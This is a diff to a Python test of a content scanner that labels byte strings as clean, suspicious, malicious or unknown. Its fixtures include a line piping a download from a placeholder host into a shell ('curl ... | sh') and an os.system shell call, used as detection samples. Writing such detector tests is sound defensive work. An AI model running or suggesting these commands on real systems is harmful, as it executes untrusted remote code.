@@ -194,7 +194,8 @@ def test_python_among_the_code() -> None:
     [
         (b"labels: cat, dog", Verdict.CLEAN),
         (b'{"a": 1}', Verdict.CLEAN),
-        (b"import os; os.system('id')", Verdict.SUSPICIOUS),
+        (b"notes\ncurl http://example.invalid/x | sh\n", Verdict.SUSPICIOUS),
+        (b"import os; os.system('id')", Verdict.MALICIOUS),
         (ELF, Verdict.MALICIOUS),
         (b"\x00\x01\x02\x03", Verdict.UNKNOWN),
     ],
